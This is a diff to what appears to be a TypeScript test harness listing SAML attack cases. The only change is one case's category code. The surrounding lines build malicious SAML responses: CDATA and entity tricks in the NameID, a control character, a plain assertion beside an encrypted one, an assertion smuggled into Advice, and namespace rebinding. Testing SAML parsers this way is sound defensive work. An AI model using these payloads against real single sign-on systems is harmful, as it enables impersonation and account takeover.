@@ -150,7 +150,7 @@ export const CONTENT: readonly Attack[] = [
   attack('TXT3: CDATA around the NameID', 'response', 'AUTH-FORMAT', 'V05', ({ xml }) => swap(xml, `>${MALLORY}<`, `><![CDATA[${MALLORY}]]><`)),
   attack('TXT3b: an entity in the NameID', 'response', 'AUTH-FORMAT', 'V05', ({ xml }) => `<!DOCTYPE x [<!ENTITY v "${VICTIM}">]>${swap(xml, `>${MALLORY}<`, '>&v;<')}`),
   attack('TXT3c: a control character in the NameID', 'response', 'AUTH-FORMAT', 'V04', ({ xml }) => swap(xml, `>${MALLORY}<`, `>${MALLORY}&#0;<`)),
-  attack('TXT4: a plain assertion beside an encrypted one', 'response', 'AUTH-FORMAT', 'V22', ({ xml, evil }) => inResponse(xml, `<saml:EncryptedAssertion/>${evil}`)),
+  attack('TXT4: a plain assertion beside an encrypted one', 'response', 'AUTH-FORMAT', 'V08', ({ xml, evil }) => inResponse(xml, `<saml:EncryptedAssertion/>${evil}`)),
   attack('TXT4b: the evil assertion in the advice of the genuine one', 'assertion', 'AUTH-FORMAT', 'V08', ({ xml, evil }) => swap(xml, '</saml:Conditions>', `</saml:Conditions><saml:Advice>${evil}</saml:Advice>`)),
   attack('TXT5: one attribute by two prefixes', 'response', 'AUTH-FORMAT', 'V04', ({ xml }) => swap(xml, '<samlp:Response ', '<samlp:Response xmlns:a="urn:x" xmlns:b="urn:x" a:x="" b:x="" ')),
   attack('TXT5b: the assertion namespace bound anew', 'response', 'AUTH-FORMAT', 'V07', ({ xml }) => swap(xml, / xmlns:saml="[^"]*"(?= ID="_a)/, ' xmlns:saml="urn:evil"')),
